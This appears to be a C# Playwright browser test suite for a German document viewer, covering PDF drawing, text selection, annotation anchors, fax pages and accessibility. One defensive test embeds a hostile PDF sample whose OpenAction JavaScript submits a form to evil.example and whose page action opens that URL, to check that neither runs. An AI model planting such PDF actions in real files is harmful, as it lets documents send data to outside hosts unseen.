using System.Globalization;
using System.Text.RegularExpressions;
using Microsoft.Playwright;
using Umlauf.Circulation;
using Umlauf.Records;
using Umlauf.Web.Tests.Kit;

namespace Umlauf.Web.Tests.Records;

/// <summary>The view of a document in a real browser, also as another page embeds it: with remarks and with the form of a new one.</summary>
public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
{
    private const string Page1 = "#seite-1 [data-face]";

    // What a page with remarks writes beside the view.
    private const string Remarks = """
        <ul class="u-files">
          <li class="u-file" id="anmerkung-1" data-remark data-rank="green" data-label="Weber (grün)" data-anchor-page="1" data-anchor-rect="0.1,0.2,0.5,0.1">
            <span class="u-rank u-rank--green">Weber (grün)</span> Bitte prüfen. <a data-remark-jump href="#seite-1">Seite 1</a></li>
          <li class="u-file" id="anmerkung-2" data-remark data-rank="blue" data-label="Kaya (blau)" data-anchor-page="1" data-anchor-quote="Sie ist sofort fällig." data-anchor-prefix="beträgt 50 Euro. " data-anchor-suffix="">
            <span class="u-rank u-rank--blue">Kaya (blau)</span> Frist? <a data-remark-jump href="#seite-1">Seite 1</a></li>
          <li class="u-file" id="anmerkung-3" data-remark data-rank="red" data-label="Brandt (rot)" data-anchor-page="3" data-anchor-quote="Rechtsbehelf: Gegen diesen Bescheid">
            <span class="u-rank u-rank--red">Brandt (rot)</span> Belehrung. <a data-remark-jump href="#seite-3">Seite 3</a></li>
        </ul>
        """;

    private const string Form = """
        <form data-remark-form method="post" action="/nirgends"><fieldset class="u-anchor"><legend>Stelle</legend><div class="u-anchor__fields">
          <label for="anchorPage">Seite<input class="kern-form-input__input" id="anchorPage" name="anchorPage" type="number"></label>
          <label for="anchorQuote">Zitat<input class="kern-form-input__input" id="anchorQuote" name="anchorQuote"></label></div>
          <input type="hidden" name="anchorRect"><input type="hidden" name="anchorPrefix"><input type="hidden" name="anchorSuffix">
          <p data-remark-place role="status"></p><button type="button" data-remark-clear hidden>Stelle entfernen</button></fieldset></form>
        """;

    private readonly Papers papers = new(town);

    [Fact]
    public async Task A_pdf_is_drawn_and_its_text_can_be_selected()
    {
        await using var window = await Open(await papers.PutPdf(Papers.Letter()));

        var drawn = await window.Page.EvaluateAsync<int>(
            """
            () => { const canvas = document.querySelector("#seite-1 canvas");
              const pixels = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data;
              let dark = 0; for (let i = 0; i < pixels.length; i += 4) if (pixels[i] < 100) dark++; return dark; }
            """
        );
        await Select(window, "Die Gebühr beträgt");
        var selected = await window.Page.EvaluateAsync<string>("getSelection().toString()");
        await window.Picture("viewer-pdf");

        Assert.True(drawn > 1_000, $"{drawn} dark pixels");
        Assert.Contains("Die Gebühr beträgt", selected, StringComparison.Ordinal);
        Assert.True(await window.Page.Locator("#seite-1 [data-text]").IsHiddenAsync());
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task Pages_far_away_are_drawn_when_they_come_near_and_keys_lead_there()
    {
        var pdf = Umlauf.Formats.Pdf.PdfWriter.Write("Lang", Enumerable.Range(1, 500).Select(i => $"Absatz {i}"));
        await using var window = await Open(await papers.PutPdf(pdf, "lang.pdf"));
        var pages = await window.Page.Locator("[data-page]").CountAsync();
        var before = await window.Page.Locator("canvas").CountAsync();

        await window.Page.FocusAsync("[data-pages]");
        await window.Page.Keyboard.PressAsync("End");
        await window.Page.WaitForSelectorAsync($"#seite-{pages} [data-finished]");
        var last = await window.Page.InputValueAsync("[data-page-number]");
        await window.Page.Keyboard.PressAsync("PageUp");
        await window.Page.WaitForFunctionAsync("n => document.querySelector('[data-page-number]').value === String(n)", pages - 1);
        await window.Page.WaitForFunctionAsync("() => !document.querySelector('#seite-1 canvas')");
        var wide = await Width(window, pages - 1);
        await window.Page.Keyboard.PressAsync("+");
        var wider = await Width(window, pages - 1);

        Assert.True(pages > 8 && before < pages, $"{before} of {pages} drawn");
        Assert.Equal(pages.ToString(CultureInfo.InvariantCulture), last);
        Assert.Equal(1.25, wider / wide, 0.02);
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task A_selection_fills_the_form_so_that_the_place_is_found_again()
    {
        await using var window = await Open(await papers.PutPdf(Papers.Letter()), Form);

        await Select(window, "Sie ist sofort fällig.");
        await window.Page.WaitForFunctionAsync("() => document.querySelector('[name=anchorQuote]').value !== ''");
        var anchor = await Anchor(window);
        var place = await window.Page.InnerTextAsync("[data-remark-place]");
        await window.Page.ClickAsync("[data-remark-clear]");
        var cleared = await Anchor(window);

        Assert.Equal((1, "Sie ist sofort fällig."), (anchor.Page, anchor.Quote));
        Assert.EndsWith("Gebühr beträgt 50 Euro. ", anchor.Prefix + " ", StringComparison.Ordinal);
        Assert.Contains("Absatz 1", anchor.Suffix, StringComparison.Ordinal);
        Assert.Contains("Seite 1", place, StringComparison.Ordinal);
        Assert.Equal(RemarkAnchor.WholeDocument, cleared);
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task A_drawn_rectangle_fills_the_form_in_fractions_of_the_page()
    {
        await using var window = await Open(await papers.PutPdf(Papers.Letter()), Form);
        await window.Page.ClickAsync("[data-act=draw]");
        await window.Page.EvaluateAsync("document.querySelector('#seite-1').scrollIntoView()");
        var box = (await window.Page.Locator(Page1).BoundingBoxAsync())!;

        await window.Page.Mouse.MoveAsync((float)(box.X + (box.Width * 0.25)), (float)(box.Y + (box.Height * 0.1)));
        await window.Page.Mouse.DownAsync();
        await window.Page.Mouse.MoveAsync((float)(box.X + (box.Width * 0.4)), (float)(box.Y + (box.Height * 0.2)), new() { Steps = 4 });
        await window.Page.Mouse.MoveAsync((float)(box.X + (box.Width * 0.75)), (float)(box.Y + (box.Height * 0.3)));
        await window.Page.Mouse.UpAsync();
        var anchor = await Anchor(window);

        Assert.Equal((1, null), (anchor.Page, anchor.Quote));
        Assert.Equal(0.25, anchor.Rect!.Value.Left, 0.01);
        Assert.Equal(0.1, anchor.Rect.Value.Top, 0.01);
        Assert.Equal(0.5, anchor.Rect.Value.Width, 0.01);
        Assert.Equal(0.2, anchor.Rect.Value.Height, 0.01);
        Assert.Equal(1, await window.Page.Locator(".u-mark--new").CountAsync());
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task Remarks_are_drawn_where_they_belong_with_colour_and_label_and_lead_back_and_forth()
    {
        await using var window = await Open(await papers.PutPdf(Papers.Letter()), Remarks);
        await window.Page.WaitForSelectorAsync("#seite-1 .u-mark.u-rank--blue");

        var face = (await window.Page.Locator(Page1).BoundingBoxAsync())!;
        var green = (await window.Page.Locator(".u-mark.u-rank--green").BoundingBoxAsync())!;
        var blue = (await window.Page.Locator(".u-mark.u-rank--blue").First.BoundingBoxAsync())!;
        var text = (await window.Page.Locator("#seite-1 .textLayer span", new() { HasText = "Sie ist sofort" }).BoundingBoxAsync())!;
        await window.Picture("viewer-remarks");
        await window.Page.FocusAsync("#anmerkung-3 [data-remark-jump]");
        await window.Page.Keyboard.PressAsync("Enter");
        await window.Page.WaitForFunctionAsync("() => document.activeElement.matches('#seite-3 .u-mark__label')");
        await window.Page.Keyboard.PressAsync("Enter");
        var back = await window.Page.EvaluateAsync<string>("document.activeElement.id");

        Assert.Equal(0.1, (green.X - face.X) / face.Width, 0.01);
        Assert.Equal(0.2, (green.Y - face.Y) / face.Height, 0.01);
        Assert.Equal(0.5, green.Width / face.Width, 0.01);
        Assert.Equal(0.1, green.Height / face.Height, 0.01);
        Assert.InRange(blue.Y + (blue.Height / 2), text.Y, text.Y + text.Height);
        Assert.InRange(blue.X, text.X + (text.Width * 0.3), text.X + text.Width);
        Assert.Equal("Weber (grün)", await window.Page.InnerTextAsync(".u-rank--green .u-mark__label"));
        Assert.Equal("anmerkung-3", back);
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task Without_drawing_a_quote_is_marked_in_running_text_and_fax_pages_can_be_marked_too()
    {
        var letter = await papers.Put("Guten Tag"u8.ToArray(), "text/plain", "brief.txt");
        var text = Remarks.Replace("Sie ist sofort fällig.", "Guten Tag", StringComparison.Ordinal);
        await using (var window = await Open(letter, text + Form))
        {
            await window.Page.WaitForSelectorAsync(".u-mark.u-rank--blue");
            Assert.Equal(1, await window.Page.Locator(".u-mark").CountAsync());
            Assert.True(await window.Page.Locator("[data-act=draw]").IsHiddenAsync());
            Assert.Empty(window.Problems);
        }
        await using var fax = await Open(await papers.Put(Fax.TwoPages(), "image/tiff", "fax.tif"), Remarks + Form);
        await fax.Page.WaitForSelectorAsync("#seite-1 .u-mark.u-rank--green");
        await fax.Page.WaitForFunctionAsync("() => document.querySelector('#seite-1 img').naturalHeight > 0");
        var size = await fax.Page.EvaluateAsync<double>(
            "() => { const i = document.querySelector('#seite-1 img'); return i.naturalWidth / i.naturalHeight; }"
        );
        await fax.Picture("viewer-fax");

        Assert.Equal(1728 / 2290.0, size, 0.001);
        Assert.True(await fax.Page.Locator("[data-act=draw]").IsVisibleAsync());
        Assert.Empty(fax.Problems);
    }

    [Fact]
    public async Task A_broken_pdf_leaves_the_text_where_it_was()
    {
        var document = await papers.Put("%PDF-1.4 kaputt"u8.ToArray(), "application/pdf", "kaputt.pdf", "Text von früher");
        await using var window = await browser.Open(town.Host.Address);
        using var visitor = await town.SignedIn("sommer");
        await window.Use(visitor);

        await window.Go($"/dokument/{document.Value}");
        await window.Page.WaitForSelectorAsync("[data-finished=failed]");

        Assert.Contains("lassen sich nicht zeichnen", await window.Page.InnerTextAsync("[data-says]"), StringComparison.Ordinal);
        Assert.Contains("Text von früher", await window.Page.InnerTextAsync(Page1), StringComparison.Ordinal);
        Assert.Empty(window.Problems);
    }

    [Fact]
    public async Task Script_inside_a_pdf_is_not_run_and_nothing_is_loaded_from_elsewhere()
    {
        var pdf =
            """
            %PDF-1.4
            1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\(1\); this.submitForm\("https://evil.example/"\);)>>>> endobj
            2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj
            3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/AA<</O<</S/URI/URI(https://evil.example/)>>>>>> endobj
            trailer <</Root 1 0 R>>
            """u8.ToArray();
        var asked = new List<string>();
        var dialogs = 0;

        await using var window = await Open(
            await papers.Put(pdf, "application/pdf", "boese.pdf"),
            prepare: page =>
            {
                page.Request += (_, request) => asked.Add(request.Url);
                page.Dialog += (_, _) => dialogs++;
            }
        );

        Assert.Equal(0, dialogs);
        Assert.All(asked, url => Assert.StartsWith(town.Host.Address.ToString(), url, StringComparison.Ordinal));
        Assert.Empty(window.Problems);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task The_view_and_the_comparison_have_no_barriers_and_fit_on_a_phone(bool phone)
    {
        var document = await papers.PutPdf(Papers.Letter());
        var second = Papers.Letter("80 Euro");
        await papers.AddVersion(document, second, "application/pdf", "neu.pdf", await papers.Text(second));
        // Drawn for the width that the page has from the start.
        Form[] forms = phone ? [Kit.Form.Phone] : [Kit.Form.Light, Kit.Form.Dark];

        await using var view = await Open(document, Remarks + Form, phone);
        await view.Page.WaitForSelectorAsync("#seite-1 .u-mark");
        await view.Look("viewer", forms);
        await view.Go($"/dokument/{document.Value}/vergleich?von=1&nach=2");
        await view.Look("compare", forms);
    }

    /// <summary>The document's page, with more beside the view, as another page has it.</summary>
    private async Task<Window> Open(DocumentId document, string beside = "", bool phone = false, Action<IPage>? prepare = null)
    {
        using var visitor = await town.SignedIn("sommer");
        var window = await browser.Open(town.Host.Address, phone: phone);
        await window.Use(visitor);
        prepare?.Invoke(window.Page);
        var address = new Regex($"/dokument/{document.Value}$", RegexOptions.None, TimeSpan.FromSeconds(1));
        if (beside.Length > 0)
            await window.Page.RouteAsync(
                address,
                async route =>
                {
                    var answer = await route.FetchAsync();
                    var page = LastAside().Replace(await answer.TextAsync(), beside + "</aside>", 1);
                    await route.FulfillAsync(new() { Response = answer, Body = page });
                }
            );
        await window.Go($"/dokument/{document.Value}");
        await window.Page.WaitForSelectorAsync("[data-finished]");
        if (await window.Page.Locator("[data-drawn]").CountAsync() > 0)
            await window.Page.WaitForSelectorAsync($"{Page1}[data-finished]");
        return window;
    }

    [GeneratedRegex("</aside>", RegexOptions.None, 1000)]
    private static partial Regex LastAside();

    private static Task<System.Text.Json.JsonElement?> Select(Window window, string words) =>
        window.Page.EvaluateAsync(
            """
            words => {
              const span = [...document.querySelectorAll("#seite-1 .textLayer span")].find(one => one.textContent.includes(words));
              const node = document.createTreeWalker(span, NodeFilter.SHOW_TEXT).nextNode();
              const at = node.data.indexOf(words);
              getSelection().setBaseAndExtent(node, at, node, at + words.length);
            }
            """,
            words
        );

    private static Task<double> Width(Window window, int page) =>
        window.Page.EvaluateAsync<double>("n => document.querySelector(`#seite-${n} [data-face]`).getBoundingClientRect().width", page);

    /// <summary>What the form would send, read as the server reads it.</summary>
    private static async Task<RemarkAnchor> Anchor(Window window)
    {
        async Task<string> Field(string name) => await window.Page.InputValueAsync($"[name={name}]");
        return RemarkAnchor
            .Parse(
                await Field("anchorPage"),
                await Field("anchorRect"),
                await Field("anchorQuote"),
                await Field("anchorPrefix"),
                await Field("anchorSuffix")
            )
            .Value;
    }
}
